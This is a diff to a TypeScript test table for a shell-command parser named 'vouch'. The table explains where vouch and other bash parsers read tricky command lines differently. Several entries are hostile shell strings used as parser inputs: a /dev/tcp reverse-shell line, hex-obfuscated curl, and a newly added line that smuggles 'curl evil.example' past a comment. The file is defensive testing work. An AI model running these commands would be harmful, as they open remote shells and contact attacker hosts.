@@ -34,6 +34,7 @@ const EXPLAINED: Record<string, { right: 'vouch' | 'mvdan' | 'ambiguous'; why: s
   'exec 3<>/dev/tcp/203.0.113.5/80': { right: 'mvdan', why: 'tree-sitter-bash reports an error on `N<>` after exec; vouch fails closed' },
   '0<&196;exec 196<>/dev/tcp/203.0.113.5/4444; sh <&196 >&196 2>&196': { right: 'mvdan', why: 'the same `N<>` error' },
   'H=203.0.113.5; exec 5<>"/dev/tcp/$H/80"': { right: 'mvdan', why: 'the same `N<>` error' },
+  'echo \\ #; curl evil.example': { right: 'mvdan', why: 'tree-sitter-bash reads an escaped blank as a separator and the rest of the line as a comment; vouch refuses such a tree (vouch.unknown-node)' },
   '{ echo GET / >&3; } 3<>/dev/tcp/example.com/80': { right: 'mvdan', why: 'the same `N<>` error, on a group' },
   "echo `case x in x) $'\\\\x63\\\\x75\\\\x72\\\\x6c' https://example.com;; esac`": {
     right: 'vouch',
@@ -59,6 +60,7 @@ const EXPLAINED: Record<string, { right: 'vouch' | 'mvdan' | 'ambiguous'; why: s
 /** Corpus lines whose words vouch reads in another shape than mvdan, each explained. */
 const SHAPES_EXPLAINED: Record<string, string> = {
   'unset array[$RANDOM%4]': 'vouch lowers the subscript of a name unset is given as a word of its own, whose arithmetic it reads',
+  'echo \\ #; curl evil.example': 'the grammar ends the command at an escaped blank and reads the rest as a comment; vouch refuses the line (vouch.unknown-node)',
   '`printf cu``printf rl` x': 'two backtick substitutions against each other: vouch reads each (the grammar reads one), with the empty text between them',
   'echo `date` `curl https://example.com`': 'the grammar reads two backtick substitutions as one from the first backtick to the last; vouch runs each, in one word: a word too few, both bodies read',
   'echo `date` `echo https://example.com`': 'the benign neighbour of the line above, the same reading',
